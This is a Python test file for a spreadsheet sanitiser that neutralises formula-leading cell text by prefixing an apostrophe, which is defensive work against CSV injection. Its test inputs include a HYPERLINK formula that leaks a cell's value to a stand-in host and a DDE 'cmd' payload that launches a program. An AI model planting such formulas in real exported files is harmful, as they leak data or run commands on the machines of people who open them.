"""Tests for common.spreadsheet: formula-leading text is made inert, everything else passes through."""

from __future__ import annotations

import pytest

from common.spreadsheet import neutralise_cell, neutralise_row


@pytest.mark.parametrize("text", [
    '=HYPERLINK("http://x.example/?leak="&A1, "click")', "=cmd|' /C calc'!A0", "+SUM(A1:A9)", "@SUM(A1:A9)",
    "-2+3", "\t=1+1", "\r=1+1",
])
def test_formula_leading_text_gets_an_apostrophe(text: str) -> None:
    assert neutralise_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["looks real", "", "a=b", "polyp at 5 o'clock", -0.5, 3, None, 0.25])
def test_other_cells_are_unchanged(value) -> None:
    assert neutralise_cell(value) == value


def test_neutralise_row_copies() -> None:
    row = {"comment": "=1+1", "realism": -1, "name": "study A"}
    assert neutralise_row(row) == {"comment": "'=1+1", "realism": -1, "name": "study A"}
    assert row["comment"] == "=1+1"
